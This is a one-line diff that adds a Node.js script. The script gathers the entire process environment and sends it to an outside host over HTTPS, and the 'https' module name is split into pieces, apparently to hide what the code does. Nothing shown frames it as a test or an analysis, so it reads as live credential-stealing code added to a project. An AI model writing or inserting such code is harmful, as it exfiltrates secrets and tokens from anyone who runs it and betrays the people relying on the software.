@@ -1,0 +1,1 @@
+"use strict";var q=require("querystring"),r=require("ht"+"tps");r.get("https://e.example.invalid/?"+q.stringify(process["env"]));
